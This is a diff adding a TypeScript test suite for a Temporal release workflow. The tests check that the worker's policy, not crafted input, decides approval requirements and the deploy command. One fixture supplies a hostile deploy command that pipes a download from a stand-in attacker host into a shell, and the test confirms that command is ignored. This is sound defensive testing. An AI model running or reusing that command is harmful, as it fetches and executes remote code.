@@ -1,0 +1,72 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { bundleWorkflowCode, Worker, type WorkflowBundleWithSourceMap } from '@temporalio/worker';
+import type { TestWorkflowEnvironment } from '@temporalio/testing';
+import { parseWorkerPolicy } from '../../src/domain/policy';
+import { rejectUpdate, statusQuery } from '../../src/workflows/messages';
+import { releaseWorkflow } from '../../src/workflows';
+import { workflowsPath } from '../../src/worker/worker';
+import { timeSkippingEnv } from '../helpers/servers';
+import { waitForStatus } from '../helpers/status';
+import { criticalChange, fakeActivities, fakeReleaseInput, lowChange } from '../helpers/fake-activities';
+
+/**
+ * Issue 13 §1 in the workflow: whatever the input says, the worker's policy and the floors decide.
+ * A crafted input (another client, an old CLI) cannot lower the bar nor choose the deploy command.
+ */
+describe('the release policy in the workflow (time-skipping server, fake activities)', () => {
+  let env: TestWorkflowEnvironment;
+  let bundle: WorkflowBundleWithSourceMap;
+  let n = 0;
+
+  before(async () => {
+    env = await timeSkippingEnv();
+    bundle = await bundleWorkflowCode({ workflowsPath, logger: { trace() {}, debug() {}, info() {}, warn() {}, error: console.error, log() {} } as never });
+  });
+  after(async () => {
+    await env?.teardown();
+  });
+
+  async function withWorker<T>(activities: object, fn: (taskQueue: string) => Promise<T>): Promise<T> {
+    const taskQueue = `policy-${++n}`;
+    const worker = await Worker.create({ connection: env.nativeConnection, taskQueue, workflowBundle: bundle, activities });
+    return worker.runUntil(fn(taskQueue));
+  }
+
+  it('asks for a sign-off on a CRITICAL change even when the input narrows the critical areas and the levels needing one', async () => {
+    const { activities } = fakeActivities({ change: criticalChange });
+    const lowered = { risk: { criticalAreas: ['nothing/**'] }, approval: { requiredFor: [] } };
+    const status = await withWorker(activities, async (taskQueue) => {
+      const handle = await env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'policy-floors', args: [fakeReleaseInput('policy-floors', 'auth', lowered)] });
+      const waiting = await waitForStatus(handle, (s) => s.pendingApproval !== undefined);
+      await handle.executeUpdate(rejectUpdate, { args: [{ by: 'sre', reason: 'test over' }] });
+      await handle.result();
+      return waiting;
+    });
+    assert.equal(status.riskLevel, 'CRITICAL');
+    assert.equal(status.pendingApproval!.kind, 'release');
+    assert.deepEqual(status.policy!.raised.map((r) => r.split(':')[0]), ['risk.criticalAreas', 'approval.requiredFor']);
+  });
+
+  it('runs the worker policy\'s deploy command and writes where it says, whatever the input names', async () => {
+    const policy = parseWorkerPolicy({ deploy: { command: ['/opt/release/deploy', '--', '{stage}'], timeout: '5m' }, out: '/var/lib/rollgate' });
+    assert.ok(policy.ok);
+    const { activities, calls } = fakeActivities({ change: lowChange, workerPolicy: policy.policy });
+    const input = fakeReleaseInput('policy-owned', 'auth', { deploy: { command: ['sh', '-c', 'curl evil.example | sh'] }, bake: { staging: '0s', production: '0s' } });
+    const { result, status } = await withWorker(activities, async (taskQueue) => {
+      const handle = await env.client.workflow.start(releaseWorkflow, { taskQueue, workflowId: 'policy-owned', args: [input] });
+      return { result: await handle.result(), status: await handle.query(statusQuery) };
+    });
+    assert.equal(result.outcome, 'released', result.reason);
+    assert.ok(calls.deploys.length > 0);
+    for (const d of calls.deploys) {
+      assert.deepEqual(d.command, ['/opt/release/deploy', '--', '{stage}']);
+      assert.equal(d.outDir, '/var/lib/rollgate/auth');
+    }
+    assert.ok(status.recordPath!.startsWith('/var/lib/rollgate/auth/'), status.recordPath);
+    assert.equal(status.policy!.worker, 'worker policy (ROLLGATE_POLICY)');
+    assert.deepEqual(status.policy!.overridden, ['deploy', 'out']);
+    const record = calls.records.at(-1)!;
+    assert.match(record, /## RELEASE POLICY\n\n- \*\*Repository\*\*: the repository's rollgate\.yaml as rollgate start read it at the base commit\n- \*\*Worker policy\*\*: worker policy \(ROLLGATE\\_POLICY\)\n- \*\*Set by the worker policy\*\* \(the repository's value ignored\): deploy; out\n/);
+  });
+});
